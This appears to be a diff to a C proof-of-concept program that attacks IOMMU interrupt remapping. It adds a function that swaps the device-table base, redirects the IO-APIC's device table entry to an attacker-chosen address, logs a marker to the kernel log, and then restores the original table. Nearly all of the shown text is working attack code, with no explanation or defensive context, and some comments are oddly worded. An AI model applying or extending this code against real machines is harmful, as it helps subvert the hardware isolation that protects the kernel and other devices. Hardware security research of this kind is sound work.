@@ -13,6 +13,7 @@
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
+#include <string.h>
 #include <sys/mman.h>
 #include <unistd.h>
 #include "own-page.h"
@@ -35,6 +36,8 @@
 #define DTE_INTERRUPTS (2ull << 60 | 8 << 1 | 1)
 #define INDEX 200
 #define IOAPIC 0xfec00000
+#define IOAPIC_BDF 0xa0 /* as which QEMU's sends */
+#define IOAPIC_TAKEN "<0>the IO-APIC has no table\n"
 #define IOREGSEL 0x00
 #define IOWIN 0x10
 #define ENTRY(pin) (0x10 + 2 * (pin))
@@ -107,6 +110,24 @@ static void attack_tables(uint64_t address, uint32_t apic_id, unsigned int bdf)
 	command("device table elsewhere", FLUSH_ALL, 0);
 }
 
+/* The table of the IO-APIC has cells' pins as well: it is not Linux's to take away. The second page of the device table
+ * is ours here. */
+static void attack_ioapic(uint64_t address, uint64_t devtab)
+{
+	volatile uint64_t *dte = table + (32 * IOAPIC_BDF - PAGE) / 8;
+	int console = open("/dev/kmsg", O_WRONLY);
+
+	set(DEVTAB, (table_hpa - PAGE) | 1);
+	command("IO-APIC without a table", FLUSH_DEVICE | IOAPIC_BDF, 0);
+	dte[0] = address | DTE_TRANSLATED;
+	command("IO-APIC translated", FLUSH_DEVICE | IOAPIC_BDF, 0);
+	if (console < 0 || write(console, IOAPIC_TAKEN, strlen(IOAPIC_TAKEN)) < 0)
+		die("/dev/kmsg");
+	sleep(3); /* for somebody to see whether interrupts arrive */
+	set(DEVTAB, devtab);
+	command("IO-APIC of Linux", FLUSH_DEVICE | IOAPIC_BDF, 0);
+}
+
 static void attack_places(uint64_t address, uint64_t control)
 {
 	set(COMMANDS, address | RING);
@@ -162,6 +183,7 @@ int main(int argc, char **argv)
 	attack_ring(address, control);
 	attack_tables(address, (uint32_t)strtoul(argv[2], NULL, 0),
 		      (unsigned int)strtoul(argv[4], NULL, 0));
+	attack_ioapic(address, devtab);
 	attack_places(address, control);
 	attack_pins(fd);
 	set(DEVTAB, devtab);
